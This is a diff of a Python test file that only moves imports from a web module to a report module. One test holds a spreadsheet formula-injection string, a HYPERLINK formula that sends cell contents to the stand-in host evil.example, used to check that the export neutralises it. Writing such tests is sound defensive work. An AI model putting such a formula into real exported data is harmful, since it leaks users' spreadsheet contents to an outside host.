@@ -223,7 +223,7 @@ def test_a_bug_is_a_500_in_the_error_shape_and_is_not_re_raised(tmp_path: Path) 
 def test_names_never_become_formulas_in_the_workbook() -> None:
     from openpyxl import load_workbook
 
-    from llmplan.web.xlsx import plan_workbook
+    from llmplan.report.xlsx import plan_workbook
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     payload: dict[str, Any] = {
@@ -249,7 +249,7 @@ def test_the_pdf_renderer_fetches_nothing(monkeypatch: pytest.MonkeyPatch, names
     import http.server
     import threading
 
-    from llmplan.web import pdf
+    from llmplan.report import pdf
 
     hits: list[str] = []
 
